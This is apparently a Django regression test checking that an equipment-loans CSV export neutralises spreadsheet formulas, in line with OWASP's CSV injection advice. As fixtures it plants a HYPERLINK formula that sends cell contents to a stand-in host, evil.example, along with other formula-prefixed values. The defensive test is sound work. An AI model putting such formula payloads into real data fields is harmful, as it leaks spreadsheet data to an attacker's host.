"""The loans export never hands a spreadsheet a formula (OWASP "CSV injection"), as every export."""

import csv
import io

from django.urls import reverse

from distans.equipment.models import ItemType
from distans.equipment.services import loan_create


def test_the_loans_export_writes_names_and_serials_as_text(client, cast):
    """Regression: a name like =HYPERLINK(…) went into the CSV as a live formula."""
    asa = cast["employee"]
    asa.first_name, asa.last_name = '=HYPERLINK("http://evil.example/?"&A1', '"Click")'
    asa.save()
    loan_create(
        actor=cast["hr"], person=asa, item_type=ItemType.objects.get(key="laptop"), serial_number="@SUM(1+1)"
    )
    loan_create(
        actor=cast["hr"],
        person=cast["manager"],
        item_type=ItemType.objects.get(key="mobile-phone"),
        serial_number="+46-cmd",
    )
    client.force_login(cast["hr"])
    response = client.get(reverse("equipment:loans"), {"format": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'@SUM(1+1)" in cells and "'+46-cmd" in cells
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert "Björn Ekström" in cells, "ordinary names are untouched"
